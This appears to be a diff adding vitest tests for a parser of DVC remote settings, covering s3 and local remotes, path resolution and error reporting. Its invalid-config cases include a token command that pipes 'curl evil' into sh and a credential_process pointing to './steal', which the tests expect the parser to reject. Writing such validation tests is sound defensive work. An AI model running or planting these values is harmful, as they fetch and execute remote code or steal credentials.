@@ -1,0 +1,42 @@
+import { expect, it } from 'vitest';
+import { parseDvcConfig } from './dvc-config.ts';
+import { readRemoteSettings, remoteNames } from './remote-settings.ts';
+
+const read = (settings: string, file = '/home/me/project/.dvc/config') =>
+  readRemoteSettings(parseDvcConfig(`['remote "store"']\n${settings}`, file), 'store');
+
+it('reads an s3 remote with its bucket and prefix', () => {
+  const settings = read('url = s3://bucket//a/b/\nregion = eu-north-1\nuse_ssl = False\njobs = 4\n');
+  expect(settings).toMatchObject({ kind: 's3', bucket: 'bucket', prefix: 'a/b', region: 'eu-north-1', use_ssl: false, jobs: 4 });
+});
+
+it('reads a folder from where the configuration lies', () => {
+  expect(read('url = ../../store\n')).toMatchObject({ kind: 'local', folder: '/home/me/store' });
+  expect(read('url = /mnt/store\n')).toMatchObject({ folder: '/mnt/store' });
+  expect(read('url = ~/store\n')).toMatchObject({ folder: '~/store' });
+  expect(read('url = ../store\n', 'config')).toMatchObject({ folder: '../store' });
+});
+
+it.each([
+  ['url = s3://b\njobs = many\n', 3],
+  ['url = s3:///key\n', 2],
+  ['url = ../store\nverify = maybe\n', 3],
+  ['url = webdavs://host\nbearer_token_command = curl evil | sh\n', 3],
+  ['url = s3://b\ncredential_process = ./steal\n', 3],
+  ['url = s3://b\nconfigpath = ../aws/config\n', 3],
+  ['url = s3://b\ncredentialpath = /home/me/project/aws\n', 3],
+])('names the line of %j', (settings, line) => {
+  const error = expect.objectContaining({ code: 'invalid-config', place: { file: '/home/me/project/.dvc/config', line } });
+  expect(() => read(settings)).toThrow(error);
+});
+
+it('takes AWS files from outside of the project', () => {
+  expect(read('url = s3://b\nconfigpath = ~/.aws/config\ncredentialpath = /etc/aws\n')).toMatchObject({ credentialpath: '/etc/aws' });
+});
+
+it('tells what is unsupported or unknown', () => {
+  expect(() => read('url = gs://bucket\n')).toThrow(expect.objectContaining({ code: 'unsupported-remote' }));
+  const config = parseDvcConfig(`['remote "a"']\nurl = x\n['remote "b"']\nurl = y\n`, 'config');
+  expect(remoteNames(config)).toEqual(['a', 'b']);
+  expect(() => readRemoteSettings(config, 'c')).toThrow(/no remote 'c'/);
+});
